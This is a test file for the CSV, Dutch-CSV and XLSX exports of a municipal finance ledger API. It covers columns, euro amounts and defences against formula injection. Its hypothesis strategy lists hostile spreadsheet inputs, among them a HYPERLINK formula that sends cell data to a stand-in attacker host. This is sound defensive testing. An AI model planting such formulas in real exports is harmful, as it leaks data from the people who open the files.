"""Every list the API gives as CSV also comes as a spreadsheet (`Accept:` the XLSX
type), with the same rows, and amounts as numbers in euros, exact to the cent: a
controller opens it in Excel and adds them up, nothing to convert.

Exports are attack surface: whatever text a client posted or an old log holds, no cell
of either is ever a formula, no export answers 5xx, and a table's columns are its own
(the OpenAPI row schema's), not those of whichever row comes first."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from api.openapi import table_columns
from api.render import DUTCH_CSV as DUTCH, XLSX
from ledger import demo
from projections.db import ReadDB
from tests.conftest import Api, event, load_demo

LISTS = [
    ("/v1/balances", {"party": "GM0439", "year": "2015"}),
    ("/v1/reserves", {"party": "GM0439"}),
    ("/v1/journal", {"party": "GM0439", "year": "2015"}),
    ("/v1/trial-balance", {"party": "GM0439"}),
    ("/v1/events", {"party": "GM0439"}),
]
COLUMNS = table_columns()
TRAIL = "/v1/balances/GM0439/2015/participatiebudget/trail"
ALLOCATION = {"budget": "participatiebudget", "source": "rijk", "amountCents": 123_456_789}
COST = {"budget": "participatiebudget", "category": "re-integratie", "amountCents": 1_000_001}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


async def _ledger(api: Api, gemeente: str) -> None:
    reserve = {"reserve": "r", "openingBalanceCents": 50_005, "purpose": "test"}
    body = {"events": [event("BudgetAllocated", ALLOCATION), event("CostBooked", COST),
                       event("ReserveEstablished", reserve)]}
    status, answer = await api.post(gemeente, body)
    assert status == 201, answer


async def _get(api: Api, token: str, path: str, params: dict[str, str], accept: str) -> Any:
    r = await api.client.get(path, params=params, headers={"Authorization": f"Bearer {token}", "Accept": accept})
    assert r.status == 200, await r.text()
    return r


async def _cells(api: Api, token: str, path: str, params: dict[str, str]) -> list[tuple[Cell, ...]]:
    r = await _get(api, token, path, params, XLSX)
    assert r.headers["Content-Type"].startswith(XLSX)
    assert r.headers["Content-Disposition"].endswith('.xlsx"')
    return list(load_workbook(io.BytesIO(await r.read())).active.iter_rows())


async def _dutch_csv(api: Api, token: str, path: str, params: dict[str, str]) -> list[list[str]]:
    """The Dutch CSV, as Excel-NL reads it: UTF-8 after its byte order mark, `;` between cells."""
    r = await _get(api, token, path, params, DUTCH)
    assert r.headers["Content-Type"].startswith(DUTCH) and r.headers["Content-Disposition"].endswith('.csv"')
    raw = await r.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def _euros(cell: str) -> int:
    """A Dutch amount cell (-1234,56) as cents, exactly."""
    whole, _, decimals = cell.partition(",")
    assert len(decimals) == 2 and "." not in cell, cell
    return int((Decimal(whole + "." + decimals) * 100).to_integral_exact())


async def _sheet(api: Api, token: str, path: str, params: dict[str, str]) -> list[tuple[Any, ...]]:
    return [tuple(c.value for c in row) for row in await _cells(api, token, path, params)]


async def _csv(api: Api, token: str, path: str, params: dict[str, str]) -> tuple[str, list[list[str]]]:
    """The CSV as sent, and as a spreadsheet's CSV reader reads it."""
    text = await (await _get(api, token, path, params, "text/csv")).text()
    return text, list(csv.reader(io.StringIO(text, newline="")))


def _headings(columns: list[str]) -> list[str]:
    return [f"{c.removesuffix('Cents')} (EUR)" if c.endswith("Cents") else c for c in columns]


@pytest.mark.parametrize(("path", "params"), LISTS)
async def test_a_list_as_a_spreadsheet_has_the_rows_of_its_csv(api: Api, gemeente: str, path: str, params: dict[str, str]) -> None:
    await _ledger(api, gemeente)
    rows = await _sheet(api, gemeente, path, params)
    _, table = await _csv(api, gemeente, path, params)
    assert list(rows[0]) == _headings(table[0])
    assert len(rows) == len(table)


async def test_amounts_are_euro_numbers_exact_to_the_cent(api: Api, gemeente: str) -> None:
    await _ledger(api, gemeente)
    _, body = await api.get(gemeente, "/v1/balances", party="GM0439", year="2015")
    rows = await _sheet(api, gemeente, "/v1/balances", {"party": "GM0439", "year": "2015"})
    header, line = rows[0], dict(zip(rows[0], rows[1]))
    assert "allocated (EUR)" in header and "allocatedCents" not in header
    for name, cents in body["results"][0].items():
        if name.endswith("Cents"):
            euros = line[f"{name.removesuffix('Cents')} (EUR)"]
            assert isinstance(euros, (int, float)) and not isinstance(euros, bool), (name, euros)
            assert Decimal(str(euros)) == Decimal(cents).scaleb(-2), (name, euros, cents)
    assert line["allocated (EUR)"] == 1_234_567.89


async def test_the_spreadsheet_formats_euros_with_two_decimals(api: Api, gemeente: str) -> None:
    await _ledger(api, gemeente)
    r = await api.client.get("/v1/balances", params={"party": "GM0439", "year": "2015"},
                             headers={"Authorization": f"Bearer {gemeente}", "Accept": XLSX})
    sheet = load_workbook(io.BytesIO(await r.read())).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("spent (EUR)") + 1)
    assert cell.value == 10_000.01 and cell.number_format == "#,##0.00"


# --- columns: the table's, not the first row's --------------------------------------------

ALL = {"pageSize": "1000"}  # a table has every row; its JSON, one page
DEMO_TABLES = [  # every table the API renders, on the demo
    ("/v1/events", {"party": "GM0439", "limit": "1000"}, "events"),
    ("/v1/balances", {"party": "GM0439", "year": "2018", **ALL}, "balances"),
    ("/v1/reserves", {"party": "GM0995", **ALL}, "reserves"),
    ("/v1/reserves/GM0439/participatie/runway", {}, "runway"),
    ("/v1/commitments", {"party": demo.RWB}, "commitments"),
    ("/v1/parties", ALL, "parties"),
    ("/v1/journal", {"party": "GM0439", "year": "2018", **ALL}, "journal"),
    ("/v1/trial-balance", {"party": "GM0439"}, "trial-balance"),
    ("/v1/balances/GM0439/2018/participatiebudget/trail", ALL, "trail"),
    (f"/v1/organisations/{demo.DRENTSCHE_AA}/cost-split", {"year": "2015"}, "cost-split"),
    ("/v1/kpis", {"party": demo.DRENTSCHE_AA, "year": "2015"}, "kpis"),
    ("/v1/iv3", {"party": "GM0439", "year": "2018"}, "iv3"),
    ("/v1/sisa", {"party": "GM0439", "year": "2018"}, "sisa"),
]


def _json_rows(table: str, body: dict[str, Any]) -> list[dict[str, Any]]:
    """The rows a table has, as the JSON answer gives them."""
    if table == "trial-balance":
        return body["accounts"]
    if table == "cost-split":
        return [{"organisation": body["organisation"], "year": body["year"], "policy": body["policy"], **s}
                for s in body["shares"]]
    if table == "runway":
        return [{"party": body["party"], "reserve": body["reserve"], **y} for y in body["years"]]
    if table == "kpis":
        return body["placements"]
    if table == "iv3":
        return [{"side": side, **{("bedragCents" if k == "bedrag" else k): v for k, v in line.items()}}
                for side in ("lasten", "baten", "balans_lasten", "balans_baten", "balans_standen")
                for line in body["data"][side]]
    if table == "sisa":
        return [{k: body[k] for k in ("party", "year", "regeling", "part")} | row for row in body["indicators"]]
    return body["results"]


async def test_every_table_has_its_declared_columns_and_every_member_of_its_rows(api: Api) -> None:
    admin = await load_demo(api)
    assert {table for *_, table in DEMO_TABLES} == set(COLUMNS)
    for path, params, table in DEMO_TABLES:
        status, body = await api.get(admin, path, **params)
        assert status == 200, (path, body)
        rows = _json_rows(table, body)
        assert rows, path
        assert {member for row in rows for member in row} <= set(COLUMNS[table]), path
        _, parsed = await _csv(api, admin, path, params)
        assert parsed[0] == COLUMNS[table], path
        assert len(parsed) == 1 + len(rows), path
        if table != "iv3":  # its spreadsheet is CBS's Excel model (tests/test_iv3_cbs.py), not this table
            assert list((await _sheet(api, admin, path, params))[0]) == _headings(COLUMNS[table]), path


async def test_a_member_the_first_row_lacks_is_still_a_column(api: Api, gemeente: str) -> None:
    # The gemeente's registration (its first event) has no reference; a later event has one.
    assert (await api.post(gemeente, event("BudgetAllocated", ALLOCATION, reference="beschikking 2015")))[0] == 201
    params = {"party": "GM0439"}
    _, parsed = await _csv(api, gemeente, "/v1/events", params)
    assert parsed[0] == COLUMNS["events"]
    assert [dict(zip(parsed[0], row))["reference"] for row in parsed[1:]] == ["", "beschikking 2015"]
    sheet = await _sheet(api, gemeente, "/v1/events", params)
    assert list(sheet[0]) == _headings(COLUMNS["events"])
    assert [dict(zip(sheet[0], row))["reference"] for row in sheet[1:]] == [None, "beschikking 2015"]
    # A table without rows is its header.
    assert (await _csv(api, gemeente, "/v1/reserves", params))[1] == [COLUMNS["reserves"]]
    assert await _sheet(api, gemeente, "/v1/reserves", params) == [tuple(_headings(COLUMNS["reserves"]))]


async def test_booleans_and_nulls_are_written_as_json_writes_them(api: Api, gemeente: str) -> None:
    reserves = [event("ReserveEstablished", {"reserve": name, "openingBalanceCents": 1, "purpose": "p", "revolving": flag})
                for name, flag in (("a", True), ("b", False))]
    overspent = {**COST, "amountCents": ALLOCATION["amountCents"] + 1}
    body = {"events": [*reserves, event("BudgetAllocated", ALLOCATION), event("CostBooked", overspent)]}
    assert (await api.post(gemeente, body))[0] == 201
    _, parsed = await _csv(api, gemeente, "/v1/reserves", {"party": "GM0439"})
    assert [dict(zip(parsed[0], row))["revolving"] for row in parsed[1:]] == ["true", "false"]
    text, parsed = await _csv(api, gemeente, "/v1/balances", {"party": "GM0439", "year": "2015"})
    (total,) = [dict(zip(parsed[0], row)) for row in parsed[1:]]
    assert total["subBudget"] == "" and total["saldoCents"] == "-1"  # null: empty; a negative number stays a number
    assert ",-1," in text and "'-1" not in text


# --- no text is ever a formula -------------------------------------------------------------

_HOSTILE = st.sampled_from(['=HYPERLINK("http://evil.example/?"&A1,"klik")', "=1+1", "+1", "-1", "@SUM(A1)", "\t=1",
                            "\r=1", "#N/A", "'=1", '"=1"', "=", "-2261600", "a;=1+1", ";-1", "x;;@A1"])
REFERENCES = st.one_of(st.text(max_size=30), st.builds(lambda a, b: a + b, _HOSTILE, st.text(max_size=15)))


def _as_csv_cell(text: str | None) -> str:
    """Each part that would start a cell (the text, and in Dutch Excel each part after a
    semicolon) with a ' in front where it starts like a formula."""
    if text is None:
        return ""
    return ";".join("'" + part if part.startswith(FORMULA_START) else part for part in text.split(";"))


def _as_xlsx_cell(text: str | None) -> str | None:
    """What a spreadsheet reads back: XML's line ends, a character XML cannot hold as U+FFFD."""
    return NOT_XML.sub("\ufffd", text.replace("\r\n", "\n").replace("\r", "\n")) if text else None


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(reference=REFERENCES)
async def test_no_text_is_ever_a_formula_in_an_export(api: Api, gemeente: str, reference: str) -> None:
    allocation = {**event("BudgetAllocated", ALLOCATION), "id": "0b1c2c9e-4a8e-4a43-9a59-0d2f8c4f2b10"}
    assert (await api.post(gemeente, allocation))[0] in (200, 201)
    posted = event("CostBooked", COST, reference=reference)
    status, answer = await api.post(gemeente, posted)
    assert status < 500, answer
    if status != 201:
        return  # refused (a control character, a BSN): nothing to export
    position = answer["events"][0]["position"]
    one = {"party": "GM0439", "after": str(position - 1), "limit": "1"}
    _, page = await api.get(gemeente, "/v1/events", **one)
    stored = page["results"][0].get("reference")
    for path, params in (("/v1/events", one), (TRAIL, {})):
        rows = await _cells(api, gemeente, path, params)
        for cell in (c for row in rows for c in row):
            assert cell.value is None or isinstance(cell.value, (int, float)) or cell.data_type == "s", (path, cell.value)
        header = [c.value for c in rows[0]]
        (mine,) = [row for row in rows if row[header.index("id")].value == posted["id"]]
        assert mine[header.index("reference")].value == _as_xlsx_cell(stored), path
        _, parsed = await _csv(api, gemeente, path, params)
        (line,) = [dict(zip(parsed[0], row)) for row in parsed[1:] if dict(zip(parsed[0], row))["id"] == posted["id"]]
        assert line["reference"] == _as_csv_cell(stored), path
        parsed = await _dutch_csv(api, gemeente, path, params)
        (line,) = [dict(zip(parsed[0], row)) for row in parsed[1:] if dict(zip(parsed[0], row))["id"] == posted["id"]]
        assert line["reference"] == _as_csv_cell(stored), path


@pytest.mark.parametrize(("path", "params"), LISTS)
async def test_the_dutch_csv_has_the_rows_of_the_csv_in_euros_with_a_decimal_comma(
    api: Api, gemeente: str, path: str, params: dict[str, str]
) -> None:
    """`Accept: text/csv; dialect=nl`: the same rows and columns as the CSV, headed as
    the spreadsheet heads them, each amount in euros with a decimal comma that reads back
    to the same cents, ja/nee for booleans, a comma in other fractions."""
    await _ledger(api, gemeente)
    _, plain = await _csv(api, gemeente, path, params)
    dutch = await _dutch_csv(api, gemeente, path, params)
    assert dutch[0] == _headings(plain[0]) and len(dutch) == len(plain)
    for plain_row, dutch_row in zip(plain[1:], dutch[1:], strict=True):
        for column, value, shown in zip(plain[0], plain_row, dutch_row, strict=True):
            if column.endswith("Cents") and value:
                assert _euros(shown) == int(value), (column, value, shown)
            elif value in ("true", "false"):
                assert shown == {"true": "ja", "false": "nee"}[value], (column, shown)
            elif re.fullmatch(r"-?\d+\.\d+", value):
                assert shown == value.replace(".", ","), (column, shown)
            else:
                assert shown == value, (column, value, shown)


async def test_the_dutch_csv_of_the_purmerend_deficit(api: Api) -> None:
    admin = await load_demo(api)
    rows = await _dutch_csv(api, admin, "/v1/balances", {"party": "GM0439", "year": "2018"})
    line = dict(zip(rows[0], rows[1], strict=True))
    assert (line["saldo (EUR)"], line["structuralSaldo (EUR)"], line["status"]) == ("-22616,00", "-211814,00", "definitief")
    reserves = await _dutch_csv(api, admin, "/v1/reserves", {"party": "GM0995"})
    assert dict(zip(reserves[0], reserves[1], strict=True))["revolving"] == "ja"


async def test_an_old_log_with_control_characters_still_exports(api: Api, gemeente: str) -> None:
    """New events with control characters are refused, but a log stored or imported
    before that may hold them: the spreadsheet shows each as U+FFFD, the CSV as it is."""
    posted = event("BudgetAllocated", ALLOCATION, reference="kenmerk MARK oud")
    assert (await api.post(gemeente, posted))[0] == 201
    db = ReadDB(api.db_url)
    try:
        with db.transaction(write=True) as cur:
            cur.execute("UPDATE log_events SET body = replace(body, ?, ?)", ["MARK", "\\u0001=\\u000b\\u001f\\uffff"])
    finally:
        db.close()
    for path, params in (("/v1/events", {"party": "GM0439"}), (TRAIL, {})):
        rows = await _cells(api, gemeente, path, params)
        header = [c.value for c in rows[0]]
        (cell,) = [row[header.index("reference")] for row in rows if row[header.index("id")].value == posted["id"]]
        assert cell.value == "kenmerk \ufffd=\ufffd\ufffd\ufffd oud" and cell.data_type == "s", path
        _, parsed = await _csv(api, gemeente, path, params)
        assert [dict(zip(parsed[0], row))["reference"] for row in parsed[1:]
                if dict(zip(parsed[0], row))["id"] == posted["id"]] == ["kenmerk \x01=\x0b\x1f\uffff oud"], path
